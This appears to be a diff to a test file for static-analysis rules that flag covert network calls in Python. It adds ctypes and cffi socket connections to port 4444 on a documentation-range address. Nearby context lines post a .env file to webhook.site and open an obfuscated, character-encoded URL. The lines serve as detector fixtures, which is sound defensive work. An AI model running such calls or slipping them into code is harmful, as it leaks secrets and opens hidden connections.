@@ -63,3 +63,29 @@ urlopen("".join(chr(c) for c in [104, 116, 116, 112, 58, 47, 47, 101, 118, 105, 
 requests.post("https://webhook.site/4f1c", data=open(".env").read())
 # ruleid: covert.ip-lookup
 ip = requests.get("https://api.ipify.org").text
+
+# Socket calls into the C library through ctypes and cffi.
+import ctypes
+import ctypes.util
+import struct
+
+import cffi
+
+libc = ctypes.CDLL(ctypes.util.find_library("c"))
+fd = libc.socket(2, 1, 0)
+sockaddr = struct.pack("!HH4s8x", 2, 4444, socket.inet_aton("203.0.113.55"))
+# ruleid: covert.ffi-socket
+libc.connect(fd, sockaddr, len(sockaddr))
+# ruleid: covert.ffi-socket
+ctypes.cdll.LoadLibrary("libc.so.6").sendto(fd, b"x", 1, 0, sockaddr, len(sockaddr))
+# ruleid: covert.ffi-socket
+ctypes.windll.ws2_32.connect(fd, sockaddr, 16)
+ffi = cffi.FFI()
+ffi.cdef("int connect(int, const void *, unsigned int);")
+lib = ffi.dlopen(None)
+# ruleid: covert.ffi-socket
+lib.connect(fd, sockaddr, len(sockaddr))
+# ok: covert.ffi-socket
+libc.strlen(b"connect")
+# ok: covert.ffi-socket
+ffi.dlopen(None).sqrt(2.0)
